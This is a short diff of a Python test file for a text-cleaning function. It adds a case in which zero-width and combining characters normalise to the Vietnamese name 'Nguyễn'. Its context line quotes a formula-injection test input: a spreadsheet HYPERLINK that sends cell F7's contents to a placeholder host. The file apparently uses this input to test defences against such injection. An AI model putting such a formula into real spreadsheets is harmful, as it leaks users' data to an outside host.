@@ -36,6 +36,7 @@ FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&F7,\"Bấm vào đây\")", "+1+1"
 
 @pytest.mark.parametrize("raw, multiline, cleaned", [
     (DECOMPOSED, False, "Nguyễn"),
+    ("Nguye\u200b\u0302\u0303n", False, "Nguyễn"),
     ("Dòng một\x0bdòng hai\x0cdòng ba", True, "Dòng một\ndòng hai\ndòng ba"),
     ("a\r\nb\rc\u2028d\u2029e\x85f", True, "a\nb\nc\nd\ne\nf"),
     ("Cột\x07một\x1b[31m\x00\x7f\x9b", True, "Cộtmột[31m"),
